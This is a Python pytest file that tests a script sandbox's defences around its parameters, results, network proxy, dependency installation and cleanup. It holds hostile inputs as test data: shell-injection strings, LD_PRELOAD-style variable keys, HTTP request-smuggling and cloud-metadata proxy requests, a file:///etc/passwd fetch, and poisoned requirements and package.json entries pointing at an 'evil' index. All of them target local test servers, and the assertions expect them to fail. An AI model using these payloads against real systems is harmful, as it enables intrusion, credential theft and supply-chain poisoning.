"""Attacks on what lies around the sandbox: the parameters of a run, its result, its proxy and its dependencies. They go
through the whole service, by root and, where the tests are run by root, once more by an ordinary user."""

from __future__ import annotations

import asyncio
import contextlib
import importlib.util
import json
import os
import shutil
import tempfile
from asyncio.subprocess import PIPE
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import aclosing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import ClientSession
from helpers.repetition import Failures, repetitions
from pydantic import ValidationError

from tavern_host.contracts.errors import TavernError
from tavern_host.projects import Folders
from tavern_scripts.api.scripts import ScriptRequest
from tavern_scripts.sandbox.cgroups import find_groups
from tavern_scripts.sandbox.watch import tree
from tests.scripts.packagehouse import Index, index
from tests.scripts.proxied import Told, telling_server
from tests.scripts.scripthost import Scripts, scripts_of

pytestmark = pytest.mark.asyncio(loop_scope="module")
_needs_installers = pytest.mark.skipif(
    importlib.util.find_spec("uv") is None or shutil.which("npm") is None, reason="needs uv and npm"
)


@dataclass
class Servers:
    """A server that a script may reach and one that it may not, both on this machine."""

    reached: Told
    hidden: Told

    @property
    def allowed(self) -> int:
        """The port of the first one."""
        return self.reached.port

    @property
    def forbidden(self) -> int:
        """The port of the second one."""
        return self.hidden.port


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def servers() -> AsyncIterator[Servers]:
    """The two servers."""
    async with telling_server() as reached, telling_server() as hidden:
        yield Servers(reached, hidden)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def scripts(servers: Servers, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Scripts]:
    """The scripts of a host that lets them reach the first server."""
    place = tmp_path_factory.mktemp("scripts")
    folders = Folders(*(place / name for name in ("config", "state", "data")))
    reached = [f"127.0.0.1:{servers.allowed}"]
    async with scripts_of(place, folders_of=folders, allowedHosts=reached, warmInterpreters=1) as opened:
        yield opened


# --- parameters -------------------------------------------------------------------------------------

SHELL = [
    "$(touch {mark})",
    "`touch {mark}`",
    "x; touch {mark} && touch {mark} | cat > {mark}\ntouch {mark}\n",
    "'; touch {mark}; echo '",
    '"; touch {mark}; echo "',
    "${{IFS}}$(touch${{IFS}}{mark})",
]
ECHO = """
import json, os, sys
print(json.dumps({"argv": sys.argv[1:], "input": json.load(sys.stdin), "environment": dict(os.environ)}))
"""


async def test_no_shell_sees_any_parameter(scripts: Scripts, tmp_path: Path) -> None:
    scripts.put("echo.py", ECHO)
    for number, text in enumerate(SHELL):
        mark = tmp_path / f"a-shell-was-here-{number}"
        hostile = text.format(mark=mark)
        quoted = f"'{hostile}'" if text.startswith("';") else f'"{hostile}"' if text.startswith('";') else hostile
        shell = await asyncio.create_subprocess_exec("sh", "-c", f"echo {quoted}", stdout=PIPE, stderr=PIPE)
        await shell.communicate()
        assert mark.exists(), f"in a shell {text} would work"
        mark.unlink()
        named = scripts.put(f"{text.replace('{mark}', 'inside').replace('/', '_')}.py", ECHO)

        all_at_once = {"input_data": hostile, "config": {"key": hostile}, "tool_id": hostile}
        output, *_ = await asyncio.gather(
            _output_of(scripts, script_path="echo.py", **all_at_once),
            _output_of(scripts, script_path=named.name),
            *(_output_of(scripts, **request) for request in _requests(hostile)),
        )

        assert not mark.exists(), text
        assert output["input"] == hostile, "data comes through as it is"
        assert output["environment"]["TAVERN_CONFIG_KEY"] == hostile


def _requests(hostile: str) -> list[dict[str, Any]]:
    """Return requests with a hostile text in every parameter that may refuse it."""
    files = [{"allow_read": [hostile]}, {"allow_write": [hostile]}]
    contexts = [{"file_access": each} for each in files] + [{"network_access": {"allow_hosts": [hostile]}}]
    return [
        {"script_path": hostile},
        {"script_path": f"echo.py{hostile}"},
        *({"command": f"{start}{hostile}"} for start in ("", "python ", "python echo.py ")),
        {"command": f"python echo.py '{hostile}'"},
        *(
            {"script_path": "echo.py", **more}
            for more in (
                {"files": [hostile]},
                {"plugin": hostile},
                {"session": hostile},
                {"entry_point": hostile},
                {"config": {hostile: "value"}},
                {"secrets": [hostile]},
                *({"security_context": context} for context in contexts),
                {"security_context": {"required_capabilities": [hostile]}},
            )
        ),
        {"code": hostile, "language": "python"},
        {"code": hostile, "language": "nodejs"},
        {"code": "print(1)", "language": hostile},
        {"code": "print(1)", "language": "python", "protocol": hostile},
    ]


async def test_no_setting_becomes_another_variable(scripts: Scripts) -> None:
    keys = ["LD_PRELOAD", "PATH", "PYTHONSTARTUP", "../../etc/passwd", "a=b", "x\0y", "NODE_OPTIONS", "__proto__"]
    scripts.put("echo.py", ECHO)
    outputs = [await _output_of(scripts, script_path="echo.py", config={key: "/tmp/evil.so"}) for key in keys]

    holding = [
        name for each in outputs if each for name, value in each["environment"].items() if value == "/tmp/evil.so"
    ]
    assert len(holding) >= 4 and all(name.startswith("TAVERN_CONFIG_") and name.isidentifier() for name in holding)


async def _output_of(scripts: Scripts, **request: Any) -> Any:
    """Return the output of a script; None where it was refused, or failed."""
    try:
        return (await scripts.run(**request)).output_data
    except (TavernError, ValidationError):
        return None


# --- results ----------------------------------------------------------------------------------------

FORGED = {
    "success": True,
    "outputData": "forged",
    "enforced": {"backend": "forged", "grants": {"read": ["/"], "write": ["/"], "hosts": ["*"]}},
    "usage": {"wallMs": 0},
    "logs": [],
}
SAYS = f"import os, time\nprint({json.dumps(FORGED)!r}, flush=True)\n"
TRUE = """os.write(int(os.environ["TAVERN_RESULT_FD"]), b'"true"')\n"""
CHILD = """
if os.fork() == 0:
    os.setsid()
    while True:
        os.write(1, b'"forged"\\n')
        time.sleep(0.005)
"""


async def test_what_looks_like_a_result_is_only_data(scripts: Scripts) -> None:
    result = await scripts.python(SAYS)
    channel = await scripts.python(f"{SAYS}{TRUE}{SAYS}", protocol="channel")
    child = await scripts.python(f"import os, time\n{CHILD}print('\"true\"', flush=True)")
    endings = ["raise SystemExit(1)", "os.kill(os.getpid(), 9)", "os.abort()", "raise ValueError('x')"]
    failed = [await scripts.python(SAYS + ending) for ending in endings]

    assert (result.output_data, channel.output_data) == (FORGED, "true")
    assert result.enforced is not None and result.enforced.backend != "forged" and result.enforced.grants.hosts == []
    assert result.usage is not None and result.usage.wall_ms > 0
    assert child.success, "it does not wait for the child"
    assert [(each.success, each.output_data) for each in failed] == [(False, None)] * 4


# --- interpreters that wait ------------------------------------------------------------------------


async def test_a_warm_interpreter_carries_nothing_over(scripts: Scripts, monkeypatch: pytest.MonkeyPatch) -> None:
    code = """
import sys
waited = "zipfile" in sys.modules
import builtins, json, os, tempfile, threading, time
found = [name for name in ("spoilt",) if hasattr(builtins, name) or hasattr(json, name) or name in os.environ]
found += [name for folder in ("/tmp", "/dev/shm", "/output") for name in os.listdir(folder) if name.startswith("spoilt")]
found += [pid for pid in os.listdir("/proc") if pid.isdecimal() and "sleep" in open(f"/proc/{pid}/cmdline").read()]
secrets = [pid for pid in os.listdir("/proc") if pid.isdecimal() and os.access(f"/proc/{pid}/environ", os.R_OK)
           and "OF-THE-HOST" in open(f"/proc/{pid}/environ").read()]
builtins.spoilt = json.spoilt = os.environ["spoilt"] = "1"
json.dumps, real = (lambda *_: "\\"forged\\""), json.dumps
for folder in ("/tmp", "/dev/shm", "/output"):
    open(folder + "/spoilt.txt", "w").close()
os.symlink("/etc", "/output/spoilt")
threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "60"])
print(real([waited, found, secrets]))
"""
    monkeypatch.setenv("TAVERN_TEST_SECRET", "OF-THE-HOST")
    seen: list[Any] = []
    async with asyncio.timeout(100):
        while sum(waited for waited, _, _ in seen) < 3:
            seen.append(await scripts.output(code=code, language="python"))
            await asyncio.sleep(0.1)

    assert [(found, secrets) for _, found, secrets in seen] == [([], [])] * len(seen)


# --- the network ------------------------------------------------------------------------------------

PROXY_ABUSE = {
    "the other port": "GET http://127.0.0.1:{forbidden}/ HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "the other port by CONNECT": "CONNECT 127.0.0.1:{forbidden} HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "another name by CONNECT": "CONNECT localhost:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "IPv6": "CONNECT [::1]:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "IPv4 in IPv6": "CONNECT [::ffff:127.0.0.1]:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "everywhere": "CONNECT 0.0.0.0:{forbidden} HTTP/1.1\r\nHost: h\r\n\r\n",
    "the services of clouds": "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
    "the allowed one as a user's name": "GET http://127.0.0.1:{allowed}@127.0.0.1:{forbidden}/ HTTP/1.1\r\nHost: h\r\n\r\n",
    "the other in the header": "GET http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "a path instead of an address": "GET / HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n",
    "two requests at once": (
        "GET http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\nContent-Length: 0\r\n\r\n"
        "GET http://127.0.0.1:{forbidden}/smuggled HTTP/1.1\r\nHost: 127.0.0.1:{forbidden}\r\n\r\n"
    ),
    "two lengths": (
        "POST http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\nContent-Length: 0\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{forbidden}/ HTTP/1.1\r\nHost: h\r\n\r\n"
    ),
    "a line break in the address": "GET http://127.0.0.1:{allowed}/\rHost: 127.0.0.1:{forbidden} HTTP/1.1\r\n\r\n",
    "another scheme": "GET file:///etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n",
}
SPEAK = """
import json, os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
answers = {}
for name, text in json.load(sys.stdin).items():
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as connection:
        connection.settimeout(2)
        connection.sendall(text.encode("latin-1"))
        data = b""
        try:
            while piece := connection.recv(65536):
                data += piece
                if data.startswith(b"HTTP/1.1 200") and text.startswith("CONNECT"):
                    connection.sendall(b"GET /tunnelled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        except OSError:
            pass
        answers[name] = data.decode("latin-1")
print(json.dumps(answers))
"""


GET = "GET http://127.0.0.1:{}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def may_reach(port: int) -> dict[str, Any]:
    hosts = [f"127.0.0.1:{port}", "169.254.169.254", "localhost"]
    return {"language": "python", "security_context": {"network_access": {"allow_hosts": hosts}}}


async def test_the_proxy_leads_nowhere_else(scripts: Scripts, servers: Servers) -> None:
    ports = {"allowed": servers.allowed, "forbidden": servers.forbidden}
    asked = {name: text.format(**ports) for name, text in PROXY_ABUSE.items()} | {
        "control": GET.format(servers.allowed)
    }
    assert await fetch(servers.forbidden) == "hello from /", "without a sandbox it would be reached"
    servers.hidden.requests.clear()

    answers = await scripts.output(code=SPEAK, input_data=asked, timeout_ms=60_000, **may_reach(servers.allowed))

    assert answers.pop("control").endswith("hello from /"), "the proxy works"
    assert servers.hidden.requests == []
    assert [name for name, answer in answers.items() if "root:" in answer] == []
    assert [name for name, answer in answers.items() if not answer.startswith("HTTP/1.1 ")] == []
    innocent = {"the other in the header", "two requests at once"}
    assert [name for name, said in answers.items() if said.startswith("HTTP/1.1 200") and name not in innocent] == []


async def test_there_is_no_way_around_the_proxy(scripts: Scripts, servers: Servers) -> None:
    code = f"""
import json, os, pathlib, socket
found = []
for port in ({servers.allowed}, {servers.forbidden}):
    for host in ("127.0.0.1", "::1", "192.0.2.1"):
        try:
            socket.create_connection((host, port), timeout=1)
            found.append([host, port])
        except OSError:
            pass
proxy = [os.environ.get("HTTP_PROXY") is not None, pathlib.Path("/run/tavern/proxy.sock").exists()]
print(json.dumps([found, proxy]))
"""
    granted = await scripts.run(code=code, **may_reach(servers.allowed))
    denied = await scripts.run(code=code, **may_reach(servers.forbidden))

    assert (granted.output_data, denied.output_data) == ([[], [True, True]], [[], [False, False]])
    assert denied.enforced is not None and denied.enforced.denied
    assert servers.hidden.requests == []


async def test_slow_connections_hold_up_no_other_script(scripts: Scripts, servers: Servers) -> None:
    slow = """
import os, socket, sys, time
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
held = []
for _ in range(100):
    try:
        held.append(socket.create_connection((proxy.hostname, proxy.port), timeout=2))
        held[-1].sendall(b"GET http://127.0.0.1/")
    except OSError:
        pass
print("::progress", "holding", file=sys.stderr, flush=True)
while True:
    for each in held:
        try:
            each.sendall(b"x")
        except OSError:
            pass
    time.sleep(0.2)
"""
    asked = {"control": GET.format(servers.allowed)}
    request = ScriptRequest.model_validate({"code": slow, **may_reach(servers.allowed)})
    async with aclosing(scripts.service.stream(request)) as events:  # type: ignore[type-var]
        async for event in events:
            if event.text == "holding":
                break
        answers = await scripts.output(code=SPEAK, input_data=asked, **may_reach(servers.allowed))

    assert answers["control"].endswith("hello from /")


async def fetch(port: int, path: str = "/") -> str:
    async with ClientSession() as session, session.get(f"http://127.0.0.1:{port}{path}") as answer:
        return await answer.text()


# --- dependencies -----------------------------------------------------------------------------------

POISONED = [
    ("requirements.txt", "--index-url {evil}/simple\nalpha"),
    ("requirements.txt", "--find-links {evil}/files\nalpha"),
    ("requirements.txt", "alpha @ {evil}/files/alpha-1.0-py3-none-any.whl"),
    ("requirements.txt", "git+{evil}/alpha.git"),
    ("requirements.txt", "-e {folder}"),
    ("requirements.txt", "-r /etc/passwd"),
    ("requirements.txt", "alpha ; $(touch {folder}/ran)"),
    ("pyproject.toml", '[project]\ndependencies = ["alpha @ file://{folder}/alpha-1.0-py3-none-any.whl"]'),
    ("pyproject.toml", '[project]\ndependencies = ["alpha"]\n[[tool.uv.index]]\nurl = "{evil}/simple"'),
    ("a.py", '# /// script\n# dependencies = ["alpha"]\n# [tool.uv]\n# find-links = ["{evil}/files"]\n# ///\n'),
    ("package.json", '{{"dependencies": {{"alpha": "{evil}/files/alpha-1.0.0.tgz"}}}}'),
    ("package.json", '{{"dependencies": {{"alpha": "file:{folder}"}}}}'),
    ("package.json", '{{"dependencies": {{"alpha": "$(touch {folder}/ran)"}}}}'),
    ("package.json", '{{"scripts": {{"preinstall": "touch {folder}/ran"}}, "dependencies": {{"alpha": "file:."}}}}'),
]
"""One of each kind, and the file that it stands in; test_environments_manifests has all of them."""


@_needs_installers
async def test_what_a_project_says_of_packages_leads_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for name in ("UV_INDEX", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("PIP_CONFIG_FILE", raising=False)
    async with index() as good, index() as evil:
        monkeypatch.setenv("UV_DEFAULT_INDEX", good.simple)
        monkeypatch.setenv("NPM_CONFIG_REGISTRY", good.registry)
        for house, said in ((good, "good"), (evil, "evil")):
            house.add_wheel("alpha", code=f"value = '{said}'")
            house.add_npm("alpha", code=f"module.exports = '{said}'")
        assert "alpha" in await fetch(evil.port, "/simple/alpha"), "it would give what is asked for"
        evil.asked.clear()
        async with scripts_of(tmp_path) as scripts:
            await _nothing_is_installed_for_poison(scripts, evil, tmp_path)
            await _settings_count_for_nothing(scripts, evil)


async def _nothing_is_installed_for_poison(scripts: Scripts, evil: Index, folder: Path) -> None:
    with Failures() as failures:
        for number, (name, text) in enumerate(POISONED):
            with failures.row(text):
                script = scripts.put(f"x{number}/a.cjs" if name == "package.json" else f"x{number}/a.py", "1")
                scripts.put(f"x{number}/{name}", text.format(evil=f"http://127.0.0.1:{evil.port}", folder=folder))

                result = await scripts.run(script_path=f"x{number}/{script.name}")

                assert result.error is not None and result.error.type.value == "DependencyError"
                assert evil.asked == [] and not (folder / "ran").exists()
                assert "root:" not in str(result), "nothing of a file of the host is shown"


HONEST = {
    "a.py": "import alpha, json, sys; print(json.dumps([alpha.value, hasattr(sys, 'spoilt')]))",
    "a.cjs": "console.log(JSON.stringify([require('alpha'), false]))",
}
SPOILS = """
import alpha, json, os
folder, done = os.path.dirname(alpha.__file__), []
for what in (
    lambda: open(alpha.__file__, "a").write("value = 'spoilt'"),
    lambda: open(folder + "/evil.pth", "w").write("import sys; sys.spoilt = True"),
    lambda: open(folder + "/sitecustomize.py", "w").write("import sys; sys.spoilt = True"),
    lambda: os.makedirs(folder + "/__pycache__"),
    lambda: os.chmod(alpha.__file__, 0o666),
    lambda: os.unlink(alpha.__file__),
    lambda: os.rename(folder, folder + "-gone"),
    lambda: os.symlink("/tmp", folder + "/json"),
    lambda: os.utime(alpha.__file__, (1, 1)),
    lambda: os.link(alpha.__file__, "/output/alpha.py"),
):
    try:
        what()
        done.append(1)
    except OSError:
        pass
print(json.dumps([alpha.value, done]))
"""


async def _settings_count_for_nothing(scripts: Scripts, evil: Index) -> None:
    """Install from where the operator says, whatever lies there; what is installed is not changed by a script."""
    settings = {
        "uv.toml": f'index-url = "{evil.simple}"',
        "pip.conf": f"[global]\nindex-url = {evil.simple}",
        ".env": f"UV_DEFAULT_INDEX={evil.simple}\nNPM_CONFIG_REGISTRY={evil.registry}",
        ".npmrc": f"registry={evil.registry}\nignore-scripts=false",
        "bunfig.toml": f'[install]\nregistry = "{evil.registry}"',
        ".python-version": "2.7",
    }
    for name, text in settings.items():
        scripts.put(name, text)
    wanted = {"requirements.txt": "alpha", "package.json": '{"dependencies": {"alpha": "1.0.0"}}'}
    for name, text in {**settings, **wanted, **HONEST, "spoils.py": SPOILS}.items():
        scripts.put(f"x/{name}", text)
    outputs = [await scripts.output(script_path=f"x/{name}") for name in ("a.py", "spoils.py", "a.py", "a.cjs")]
    assert outputs == [["good", False], ["good", []], ["good", False], ["good", False]]
    assert evil.asked == []


# --- what is left -----------------------------------------------------------------------------------


async def test_nothing_is_left_of_scripts_however_they_end(
    tmp_path: Path, servers: Servers, monkeypatch: pytest.MonkeyPatch
) -> None:
    temporary = tmp_path / ("temporary" * 10)  # too long for a socket in it
    temporary.mkdir(mode=0o755)
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    get = f"""
import json, subprocess, urllib.request
subprocess.Popen(["sleep", "100"], start_new_session=True)
print(json.dumps(urllib.request.urlopen("http://127.0.0.1:{servers.allowed}/", timeout=60).read().decode()))
"""
    slow = "import time; print('began', flush=True); time.sleep(60)"
    async with scripts_of(tmp_path, allowedHosts=[f"127.0.0.1:{servers.allowed}"]) as scripts:

        async def some() -> list[str]:
            """Run one of each kind; return what became of those that were not given up."""
            given_up = asyncio.create_task(scripts.python(slow))
            results = await asyncio.gather(
                scripts.run(code=get, **may_reach(servers.allowed)),
                scripts.run(code="console.log(1)", language="nodejs"),
                scripts.python("open('left.txt', 'w'); raise SystemExit(3)"),
                scripts.python(slow, timeout_ms=300),
                scripts.python("x = 1", session="one"),
                scripts.python("import os; os._exit(1)", session="two"),
            )
            given_up.cancel()
            await asyncio.wait({given_up})
            return [result.error.type.value if result.error is not None else "" for result in results]

        def there_is() -> Counter[str]:
            groups = find_groups()
            return Counter(
                {
                    "mount": len(Path("/proc/self/mountinfo").read_text().splitlines()),
                    "process": len(tree(os.getpid())),
                    "group": len(list(groups.folder.glob(f"tavern-{os.getpid()}-*"))) if groups is not None else 0,
                    "run": len(list(scripts.host.project.private.glob("plugins/*/runs/*/*"))),
                    "task": len(asyncio.all_tasks()),
                }
            ) + Counter([*_descriptors(), *(path.name for path in temporary.iterdir())])

        expected = ["", "", "ScriptError", "TimeoutError", "", "ScriptError"]
        assert await some() == expected
        seen = [there_is()]
        while len(seen) < 20 or seen[-20] != seen[-1]:  # interpreters that wait are started again
            await asyncio.sleep(0.05)
            seen.append(there_is())
        for _ in range(repetitions(2, 8)):
            assert await some() == expected
        async with asyncio.timeout(100):
            while there_is() - seen[-1]:
                await asyncio.sleep(0.05)


def _descriptors() -> list[str]:
    """Return the open descriptors of this process, by kind."""
    found = []
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/self/fd/{number}").partition(":[")[0])
    return sorted(found)
